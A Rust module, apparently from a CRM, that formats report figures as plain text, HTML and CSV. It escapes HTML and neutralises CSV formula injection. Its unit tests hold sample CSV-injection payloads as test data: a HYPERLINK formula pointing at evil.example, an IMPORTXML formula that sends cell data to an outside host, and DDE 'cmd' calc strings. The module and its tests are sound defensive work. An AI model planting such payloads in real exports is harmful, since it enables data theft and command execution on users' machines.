//! A generated report as a manager reads it: its figures, and the same figures as plain
//! text, HTML and CSV. Pure functions of the recorded figures, so the CSV attached to the
//! email and the CSV downloaded later are the same bytes.

use chrono::NaiveDate;
use serde::{Deserialize, Serialize};

use crate::scheduled_report::ReportMetric;

/// One figure of a report: which metric it belongs to, its name (a `kpis` field, snake
/// case, money in cents) and its value (`None` where the figure is undefined, e.g. a
/// conversion rate with nothing to convert).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ReportFigure {
    /// The metric the figure belongs to.
    pub metric: ReportMetric,
    /// The figure, e.g. `revenue_cents`, `review_average_centi`.
    pub name: String,
    /// Its value in the unit its name ends with.
    pub value: Option<i64>,
}

impl ReportFigure {
    /// A figure.
    pub fn new(metric: ReportMetric, name: &str, value: Option<i64>) -> Self {
        Self {
            metric,
            name: name.to_string(),
            value,
        }
    }

    /// The unit, read from the name's ending: `cents`, `basis_points` (1/100 of a percent),
    /// `centi_stars` (366 = 3.66 stars) or `count`.
    pub fn unit(&self) -> &'static str {
        if self.name.ends_with("_cents") {
            "cents"
        } else if self.name.ends_with("_bp") {
            "basis_points"
        } else if self.name.ends_with("_centi") {
            "centi_stars"
        } else {
            "count"
        }
    }

    /// The figure's label, in words.
    pub fn label(&self) -> String {
        let base = ["_cents", "_bp", "_centi"]
            .iter()
            .find_map(|s| self.name.strip_suffix(s))
            .unwrap_or(&self.name);
        let mut words = base.replace('_', " ");
        if let Some(first) = words.get(..1) {
            words = first.to_uppercase() + &words[1..];
        }
        words
    }

    /// The value as a person reads it: `$1,234.50`, `12.5%`, `4.25 stars`, `1,024`, or `n/a`.
    pub fn display(&self) -> String {
        let Some(v) = self.value else {
            return "n/a".into();
        };
        match self.unit() {
            "cents" => {
                let sign = if v < 0 { "-" } else { "" };
                let v = v.unsigned_abs();
                format!("{sign}${}.{:02}", grouped(v / 100), v % 100)
            }
            "basis_points" => format!("{}%", decimal(v, 100)),
            "centi_stars" => format!("{} stars", decimal(v, 100)),
            _ => {
                let sign = if v < 0 { "-" } else { "" };
                format!("{sign}{}", grouped(v.unsigned_abs()))
            }
        }
    }
}

/// `1234567` → `1,234,567`.
fn grouped(n: u64) -> String {
    let digits = n.to_string();
    let head = match digits.len() % 3 {
        0 => 3.min(digits.len()),
        r => r,
    };
    let mut out = digits[..head].to_string();
    for chunk in digits.as_bytes()[head..].chunks(3) {
        out.push(',');
        out.extend(chunk.iter().map(|b| char::from(*b)));
    }
    out
}

/// `v / scale` with two decimals at most, trailing zeros dropped (`1250, 100` → `12.5`).
fn decimal(v: i64, scale: i64) -> String {
    let sign = if v < 0 { "-" } else { "" };
    let (whole, frac) = (v.abs() / scale, v.abs() % scale);
    if frac == 0 {
        format!("{sign}{whole}")
    } else {
        let f = format!("{frac:02}");
        format!("{sign}{whole}.{}", f.trim_end_matches('0'))
    }
}

/// Section titles, in the order sections appear.
fn section_title(m: ReportMetric) -> &'static str {
    match m {
        ReportMetric::Revenue => "Revenue",
        ReportMetric::Customers => "Customers",
        ReportMetric::OpportunityConversion => "Opportunity conversion",
        ReportMetric::PromotionEffectiveness => "Promotions",
        ReportMetric::Reviews => "Reviews",
        ReportMetric::Loyalty => "Loyalty",
        ReportMetric::PortalUsage => "Customer portal",
    }
}

/// One run of a report: what a manager receives and can download again.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReportRun {
    /// The report's name.
    pub name: String,
    /// First day covered (business time zone).
    pub period_start: NaiveDate,
    /// Last day covered.
    pub period_end: NaiveDate,
    /// The figures, in the order they were computed.
    pub figures: Vec<ReportFigure>,
}

impl ReportRun {
    /// The email subject.
    pub fn subject(&self) -> String {
        format!(
            "{}: {} to {}",
            self.name, self.period_start, self.period_end
        )
    }

    /// The CSV attachment's file name (the period's first day).
    pub fn file_name(&self) -> String {
        format!("report-{}.csv", self.period_start)
    }

    fn sections(&self) -> Vec<(ReportMetric, Vec<&ReportFigure>)> {
        let mut out: Vec<(ReportMetric, Vec<&ReportFigure>)> = Vec::new();
        for f in &self.figures {
            match out.iter_mut().find(|(m, _)| *m == f.metric) {
                Some((_, list)) => list.push(f),
                None => out.push((f.metric, vec![f])),
            }
        }
        out
    }

    /// The figures as plain text, one section per metric; `download` is where the CSV can
    /// be fetched again.
    pub fn text(&self, download: &str) -> String {
        let mut out = format!(
            "{}\n{} to {} (business time zone)\n",
            self.name, self.period_start, self.period_end
        );
        for (metric, figures) in self.sections() {
            out.push_str(&format!("\n{}\n", section_title(metric)));
            for f in figures {
                out.push_str(&format!("  {}: {}\n", f.label(), f.display()));
            }
        }
        if self.figures.is_empty() {
            out.push_str("\nNo figures.\n");
        }
        out.push_str(&format!(
            "\nThe figures are attached as CSV. API clients with a manager's token can fetch it again: GET {download}\n"
        ));
        out
    }

    /// The figures as an HTML email (everything from the report escaped).
    pub fn html(&self) -> String {
        let mut out = format!(
            "<!doctype html><html><body style=\"font-family:sans-serif\"><h1>{}</h1><p>{} to {} (business time zone)</p>",
            escape_html(&self.name),
            self.period_start,
            self.period_end
        );
        for (metric, figures) in self.sections() {
            out.push_str(&format!(
                "<h2>{}</h2><table>",
                escape_html(section_title(metric))
            ));
            for f in figures {
                out.push_str(&format!(
                    "<tr><th scope=\"row\" style=\"text-align:left;padding-right:1em\">{}</th><td style=\"text-align:right\">{}</td></tr>",
                    escape_html(&f.label()),
                    escape_html(&f.display())
                ));
            }
            out.push_str("</table>");
        }
        out.push_str("<p>The figures are attached as CSV.</p></body></html>");
        out
    }

    /// The figures as CSV: `report,period_start,period_end,metric,figure,value,unit`, one
    /// row per figure, values raw (cents, basis points) for spreadsheets; cells that would
    /// run as a formula are [`spreadsheet_safe`].
    pub fn csv(&self) -> String {
        let mut out = String::from("report,period_start,period_end,metric,figure,value,unit\n");
        let name = csv_cell(&spreadsheet_safe(&self.name));
        for f in &self.figures {
            let metric = serde_json::to_value(f.metric)
                .ok()
                .and_then(|v| v.as_str().map(str::to_string))
                .unwrap_or_default();
            let row = [
                name.clone(),
                self.period_start.to_string(),
                self.period_end.to_string(),
                metric,
                csv_cell(&spreadsheet_safe(&f.name)),
                f.value.map(|v| v.to_string()).unwrap_or_default(),
                f.unit().to_string(),
            ];
            out.push_str(&row.join(","));
            out.push('\n');
        }
        out
    }
}

/// One CSV cell, quoted when it holds a separator, a quote or a line break (RFC 4180).
pub fn csv_cell(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// Text safe inside HTML elements and attributes.
pub fn escape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// A CSV cell a spreadsheet will show as text, never run: a value that starts like a
/// formula (`=`, `@`, tab, carriage return, or `+`/`-` followed by anything but a number,
/// as OWASP's CSV-injection advice lists) gets a leading `'`. A customer named
/// `=IMPORTXML(…)` would otherwise send the list out of the manager's spreadsheet. Plain
/// numbers and E.164 phones stay as they are.
pub fn spreadsheet_safe(cell: &str) -> String {
    let mut chars = cell.chars();
    let risky = match chars.next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => {
            let rest = chars.as_str();
            rest.is_empty() || !rest.chars().all(|c| c.is_ascii_digit() || c == '.')
        }
        _ => false,
    };
    if risky {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(name: &str) -> ReportRun {
        ReportRun {
            name: name.into(),
            period_start: NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"),
            period_end: NaiveDate::from_ymd_opt(2026, 12, 6).expect("date"),
            figures: vec![
                ReportFigure::new(ReportMetric::Revenue, "revenue_cents", Some(123_456_789)),
                ReportFigure::new(ReportMetric::Revenue, "jobs_completed", Some(1_024)),
                ReportFigure::new(ReportMetric::Reviews, "review_average_centi", Some(425)),
                ReportFigure::new(
                    ReportMetric::Reviews,
                    "review_response_rate_bp",
                    Some(1_250),
                ),
                ReportFigure::new(
                    ReportMetric::OpportunityConversion,
                    "opportunity_conversion_bp",
                    None,
                ),
            ],
        }
    }

    #[test]
    fn figures_read_as_money_percent_stars_and_counts() {
        let shown: Vec<String> = run("Weekly")
            .figures
            .iter()
            .map(ReportFigure::display)
            .collect();
        assert_eq!(
            shown,
            ["$1,234,567.89", "1,024", "4.25 stars", "12.5%", "n/a"]
        );
        assert_eq!(run("Weekly").figures[0].label(), "Revenue");
        let count =
            |v| ReportFigure::new(ReportMetric::Customers, "new_customers", Some(v)).display();
        assert_eq!(
            [
                count(0),
                count(999),
                count(1_000),
                count(100_000),
                count(-1_234)
            ],
            ["0", "999", "1,000", "100,000", "-1,234"]
        );
        assert_eq!(run("Weekly").figures[3].label(), "Review response rate");
    }

    #[test]
    fn the_text_groups_figures_by_metric_and_says_where_to_download() {
        let text = run("Weekly").text("https://crm.example/api/reports/r/runs/2026-11-30.csv");
        assert!(
            text.starts_with("Weekly\n2026-11-30 to 2026-12-06"),
            "{text}"
        );
        let revenue = text.find("\nRevenue\n  Revenue: $1,234,567.89\n  Jobs completed: 1,024\n");
        let reviews = text.find("\nReviews\n  Review average: 4.25 stars\n");
        assert!(
            revenue.is_some() && reviews.is_some() && revenue < reviews,
            "{text}"
        );
        assert!(text.contains("/api/reports/r/runs/2026-11-30.csv"));
    }

    #[test]
    fn a_formula_looking_report_name_is_text_in_the_csv_and_escaped_in_html() {
        let r = run("=HYPERLINK(\"http://evil.example\",\"<b>x</b>\")");
        let csv = r.csv();
        let first_row = csv.lines().nth(1).expect("a row");
        assert!(
            first_row.starts_with("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"<b>x</b>\"\")\",2026-11-30,2026-12-06,revenue,revenue_cents,123456789,cents"),
            "{first_row}"
        );
        assert!(!r.html().contains("<b>x"), "{}", r.html());
        assert!(r.html().contains("&lt;b&gt;x&lt;/b&gt;"));
    }

    #[test]
    fn an_undefined_figure_is_an_empty_csv_cell() {
        let csv = run("Weekly").csv();
        assert_eq!(
            csv.lines().last(),
            Some("Weekly,2026-11-30,2026-12-06,opportunity_conversion,opportunity_conversion_bp,,basis_points")
        );
        assert_eq!(csv.lines().count(), 6);
    }

    #[test]
    fn a_cell_that_starts_like_a_formula_is_shown_as_text() {
        for formula in [
            "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
            "@SUM(A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
    }

    #[test]
    fn names_numbers_and_phones_are_left_alone() {
        for plain in [
            "Ada Lovelace",
            "+15125550100",
            "-42",
            "12.50",
            "O'Brien",
            "",
        ] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
    }
}
